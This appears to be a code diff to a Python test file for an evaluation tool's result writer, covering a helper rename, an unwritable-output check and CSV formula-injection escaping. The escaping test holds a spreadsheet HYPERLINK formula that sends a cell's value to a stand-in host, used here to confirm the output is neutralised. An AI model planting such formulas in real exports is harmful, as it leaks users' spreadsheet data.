@@ -10,7 +10,7 @@ from typing import Any
 import pytest
 
 from covis.engines.errors import CovisError
-from covis.evaluation.accuracy.results import Results, write_whole
+from covis.evaluation.accuracy.results import Results, write_result
 from covis.evaluation.datasets.truth import SceneRef
 from tests.file_limit import file_limit
 
@@ -92,11 +92,29 @@ def test_summary_and_table_hold_each_chosen_scene_once(tmp_path: Path) -> None:
 
 def test_full_disk_keeps_the_old_file(tmp_path: Path) -> None:
     path = tmp_path / "file.json"
-    write_whole(path, "old")
+    write_result(path, "old")
     wrong = r"file.json: cannot be written \(File too large\)"
     with file_limit(1 << 11), pytest.raises(CovisError, match=wrong):
-        write_whole(path, "new" * 1000)
+        write_result(path, "new" * 1000)
     assert path.read_text() == "old" and [p.name for p in tmp_path.iterdir()] == ["file.json"]
+
+
+def test_a_place_that_became_unwritable_is_refused_before_the_work(tmp_path: Path) -> None:
+    Results(tmp_path / "out", OPTIONS).put(record("a"))
+    wrong = r"cannot be written \(File too large\); check free space and rights, then run the same"
+    with file_limit(0), pytest.raises(CovisError, match=wrong):
+        Results(tmp_path / "out", OPTIONS)
+
+
+def test_scene_names_are_no_formulas(tmp_path: Path) -> None:
+    results = Results(tmp_path / "out", OPTIONS)
+    name = '=HYPERLINK("http://a.b/?"&A2)'
+    results.put(record(name, group="+g", ate=-0.5))
+    results.finish([SceneRef(name, "+g")], {})
+    with (tmp_path / "out" / "results.csv").open(newline="") as file:
+        [row] = csv.DictReader(file)
+    assert (row["scene"], row["group"], row["ate"]) == (f"'{name}", "'+g", "-0.5")
+    assert results.get(name) is not None
 
 
 def printed(report: dict[str, Any]) -> list[list[str]]:
